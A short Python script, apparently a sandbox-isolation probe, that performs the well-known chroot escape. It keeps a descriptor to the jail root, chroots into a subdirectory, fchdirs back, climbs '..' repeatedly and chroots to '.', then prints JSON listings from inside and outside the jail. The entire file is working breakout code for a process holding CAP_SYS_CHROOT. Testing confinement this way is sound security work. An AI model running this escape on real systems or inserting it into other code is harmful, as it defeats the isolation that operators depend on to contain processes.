"""The old way out of a chroot, by which a process with CAP_SYS_CHROOT reaches the real root of its mount namespace. Prints JSON."""
import json
import os

os.makedirs("/root/jail/deep", exist_ok=True)
os.chroot("/root/jail")
jailed = sorted(os.listdir("/"))
os.mkdir("/again") if not os.path.isdir("/again") else None
outside = os.open("/", os.O_RDONLY)
os.chroot("/again")
os.fchdir(outside)
for _ in range(64):
    os.chdir("..")
os.chroot(".")
print(json.dumps({"jailed": jailed, "reached": sorted(os.listdir("/"))}))
